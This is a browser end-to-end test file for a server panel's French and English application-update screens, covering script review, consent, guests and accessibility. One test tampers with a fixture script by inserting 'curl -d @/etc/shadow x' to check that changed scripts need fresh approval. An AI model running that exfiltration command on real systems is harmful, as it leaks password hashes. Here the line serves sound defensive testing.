import { expect, test } from 'vitest'
import { focused, follow } from '../browser.ts'
import { ADGUARD, applicationPage, PAPERLESS } from './application-pages.ts'
import { findingsOf, smallTargets, TALL } from './page-findings.ts'

const LONG = 120_000
const WAIT = { timeout: 20_000, interval: 50 }
/** A press that comes sooner after an agreement starts nothing. */
const AFTER_AGREEMENT_MS = 1_100

test('the applications of a target have their kind, versions, state and one action', { timeout: LONG }, async () => {
  const { page } = await applicationPage(undefined, { path: '/updates?open=lxc:104' })
  const rows = page.locator('.applications .names > li')
  await rows.first().waitFor(WAIT)

  const said = await rows.evaluateAll((all) =>
    all.map((each) => [
      each.querySelector('.pn')?.textContent,
      each.querySelector('.tag')?.textContent,
      each.querySelector('.status')?.textContent?.trim(),
      each.querySelector('.button')?.textContent ?? null,
    ]),
  )
  expect(said).toEqual([
    ['runners', 'Docker Compose', 'À lire', 'Lire'],
    ['org.gnome.Platform', 'Flatpak', 'Automatique', null],
    ['lxd', 'Snap', 'Automatique', null],
    ['com.github.tchx84.Flatseal', 'Flatpak', 'À jour', null],
    ['core24', 'Snap', 'À jour', null],
  ])
  await page.getByRole('button', { name: 'Voir les applications de runner' }).first().click()
  expect(await page.evaluate(() => document.activeElement?.id)).toBe('applications-lxc:104')
  expect(await page.locator('.head .note').textContent()).toMatch(/\d applications à examiner\./)
})

test('a script is read, accepted and run from one sheet, by keyboard', { timeout: LONG }, async () => {
  const { page, sheet } = await applicationPage({ docs: PAPERLESS }, { path: '/updates?open=lxc:101' })
  const read = page.getByRole('button', { name: 'Lire la mise à jour de paperless-ngx' })
  await read.focus()
  await page.keyboard.press('Enter')
  await sheet.locator('.facts').waitFor(WAIT)

  expect(await sheet.locator('.facts dd').first().textContent()).toMatch(/^https:.*\/ct\/paperless-ngx\.sh$/)
  expect(await sheet.locator('.files > li').count()).toBe(4)
  expect(await sheet.locator('.refused li').allTextContents()).toEqual([expect.stringMatching(/extra\.func$/)])
  expect(await sheet.locator('.code .line').first().textContent()).toContain('#!/usr/bin/env bash')
  expect(await sheet.locator('.agreed').textContent()).toContain('Personne n’a accepté ceci.')
  const primary = sheet.locator('.primary')
  await primary.focus()
  await page.keyboard.press('Enter')
  await sheet.locator('.agreed .ok').waitFor(WAIT)
  // The same gesture must not start what it has accepted.
  await page.keyboard.press('Enter')
  expect(await sheet.count()).toBe(1)
  await page.waitForTimeout(AFTER_AGREEMENT_MS)
  expect(await focused(page)).toBe('Exécuter exactement ceci')
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/updates\/\d/, WAIT)

  await page.locator('.told-version').waitFor(WAIT)
  expect(await page.locator('h1').textContent()).toBe('Mise à jour de paperless-ngx')
  expect(await page.locator('.told-version').textContent()).toContain('2.18.4')
  expect(await page.locator('.next-steps').count()).toBe(0)
  await follow(page, '/updates?tab=runs')
  await page.locator('.history td').first().waitFor(WAIT)
  expect(await page.locator('.history tbody tr').first().textContent()).toContain(
    'Mise à jour d’une application · docs',
  )
})

test('what has changed since it was read comes back to be read, with its differences', { timeout: LONG }, async () => {
  const { page, places, sheet } = await applicationPage({ docs: PAPERLESS }, { path: '/updates?open=lxc:101' })
  await page.getByRole('button', { name: 'Lire la mise à jour de paperless-ngx' }).click()
  const primary = sheet.locator('.primary')
  await sheet.locator('.facts').waitFor(WAIT)
  await primary.click()
  await sheet.locator('.agreed .ok').waitFor(WAIT)
  await page.waitForTimeout(AFTER_AGREEMENT_MS)
  const [place] = places
  const script = PAPERLESS.script
  if (!place || !script) throw new Error('no script')
  const [first = ''] = Object.keys(script.files)
  const text = (script.files[first] ?? '').replace('start\n', 'curl -d @/etc/shadow x\nstart\n')
  place.applications = { script: { ...script, files: { ...script.files, [first]: text } } }
  await primary.click()

  await sheet.getByText('Ce n’est plus ce qui a été lu').waitFor(WAIT)
  await sheet.locator('.code .comes').waitFor(WAIT)
  expect(await sheet.locator('.code .comes').allTextContents()).toEqual([expect.stringContaining('/etc/shadow')])
  expect(await primary.textContent()).toBe('Accepter ce script')
  expect(await sheet.locator('.agreed').textContent()).toContain('vaut pour autre chose')
  expect(await page.locator('.running').count()).toBe(0)
})

test('an agreement is withdrawn after a question', { timeout: LONG }, async () => {
  const { page, panel, sheet } = await applicationPage({ docs: PAPERLESS }, { path: '/updates?open=lxc:101' })
  await page.getByRole('button', { name: 'Lire la mise à jour de paperless-ngx' }).click()
  await sheet.locator('.facts').waitFor(WAIT)
  await sheet.locator('.primary').click()
  await sheet.locator('.agreed .ok').waitFor(WAIT)
  const agreed = async () => {
    const { applications } = await panel.api('GET /api/updates/applications', { query: { target: 'lxc:101' } })
    return applications[0]?.source?.agreed
  }
  expect(await agreed()).toBe(true)
  await sheet.getByRole('button', { name: 'Retirer l’accord' }).click()
  await page.locator('dialog.question .danger').click()

  await sheet.getByText('Personne n’a accepté ceci.').waitFor(WAIT)
  expect(await agreed()).toBe(false)
  expect(await sheet.locator('.primary').textContent()).toBe('Accepter ce script')
})

test('an update that asks ends with the way to a terminal', { timeout: LONG }, async () => {
  const { page, sheet } = await applicationPage({ dns: ADGUARD }, { path: '/updates?open=lxc:101', locale: 'en-GB' })
  await page.getByRole('button', { name: 'Read the update of adguard' }).click()
  await sheet.locator('.facts').waitFor(WAIT)
  await sheet.locator('.primary').click()
  await sheet.locator('.agreed .ok').waitFor(WAIT)
  await page.waitForTimeout(AFTER_AGREEMENT_MS)
  await sheet.locator('.primary').click()
  await page.waitForURL(/\/updates\/\d/, WAIT)
  await page.locator('.next-steps').waitFor(WAIT)

  expect(await page.locator('.next-steps a').last().getAttribute('href')).toBe('/terminal?target=lxc:101')
  expect(await page.locator('.next-steps').textContent()).toContain('answer its question')
})

test('somebody without the role reads everything, and gets no button that ends in a refusal', {
  timeout: LONG,
}, async () => {
  const { page, sheet } = await applicationPage({ docs: PAPERLESS }, { path: '/updates?open=lxc:101', user: 'guest' })
  await page.getByRole('button', { name: 'Lire la mise à jour de paperless-ngx' }).click()
  await sheet.locator('.facts').waitFor(WAIT)

  expect(await sheet.locator('.primary, .agreed .button').count()).toBe(0)
  await sheet.getByText('Seul un administrateur peut accepter et lancer.').waitFor(WAIT)
})

test.each(['fr-FR', 'en-GB'])(
  '%s: the list and the sheet have no axe violation, and fit from 320 px on',
  { timeout: LONG },
  async (locale) => {
    const { page, sheet } = await applicationPage(undefined, { path: '/updates?open=lxc:101,lxc:103', locale })
    const buttons = page.locator('.applications .names .button')
    await expect.poll(() => buttons.count(), WAIT).toBe(2)
    const found: string[] = []
    const look = async (state: string) => {
      for (const theme of ['dark', 'light'])
        for (const width of [320, 1280]) {
          await page.evaluate((is) => document.documentElement.setAttribute('data-theme', is), theme)
          // In a window shorter than the page, the menu of a phone lies over rows that can be scrolled free of it.
          await page.setViewportSize({ width, height: TALL })
          const faults = [...(await findingsOf(page)), ...(await smallTargets(page, 24))]
          found.push(...faults.map((fault) => `${state}, ${theme} at ${width}: ${fault}`))
        }
    }
    await look('the list')
    for (const n of [0, 1]) {
      await buttons.nth(n).click()
      await sheet.locator('.facts').waitFor(WAIT)
      await look(`sheet ${n}`)
      await page.keyboard.press('Escape')
      await sheet.waitFor({ state: 'detached', ...WAIT })
    }

    expect(found).toEqual([])
  },
)
